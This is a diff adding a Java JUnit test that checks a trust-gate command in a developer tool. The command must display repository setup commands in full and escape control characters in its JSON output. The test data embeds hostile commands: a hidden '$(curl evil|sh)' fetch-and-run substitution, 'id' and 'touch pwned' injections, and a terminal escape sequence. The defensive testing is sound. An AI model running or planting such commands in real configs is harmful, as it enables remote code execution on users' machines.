@@ -12,6 +12,7 @@ import dev.wt.testing.WtRun;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.HashMap;
+import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -73,6 +74,29 @@ class TrustGateTest {
     WtRun r = wt(repo.root(), "trust").expect(1);
     assertTrue(r.out().contains("DB_PASSWORD=\"$(touch pwned)\" npm run migrate"), r.out());
     assertTrue(r.out().contains("npm ci --password \"$(id)\""), r.out());
+  }
+
+  @Test
+  void trust_json_shows_the_same_whole_commands_with_control_characters_escaped() throws Exception {
+    repo.write("wt.toml", """
+        [setup]
+        commands = ["DB_PASSWORD=\\"$(curl evil|sh)\\" npm run migrate", "mysql -pS3cret -e \\"$(id)\\"", "echo \\u001b[2J"]
+        """).commitAll("hidden");
+    List<String> whole = List.of("DB_PASSWORD=\"$(curl evil|sh)\" npm run migrate", "mysql -pS3cret -e \"$(id)\"",
+        "echo \u001b[2J");
+
+    WtRun asked = wt(repo.root(), "trust", "--json").expect(1);
+    WtRun approved = wt(repo.root(), "trust", "--yes", "--json").ok();
+    WtRun listed = wt(repo.root(), "trust", "--list", "--json").ok();
+
+    for (JsonNode commands : List.of(json(asked).get("commands"), json(approved).get("commands"),
+        json(listed).at("/approvals/0/commands"))) {
+      assertEquals(whole, commands.findValuesAsText("command"), commands.toString());
+    }
+    for (WtRun r : List.of(asked, approved, listed)) {
+      assertFalse(r.out().contains("\u001b"), "JSON escapes the control character: " + r.out());
+      assertTrue(r.out().contains("echo \\u001B[2J") || r.out().contains("echo \\u001b[2J"), r.out());
+    }
   }
 
   @Test
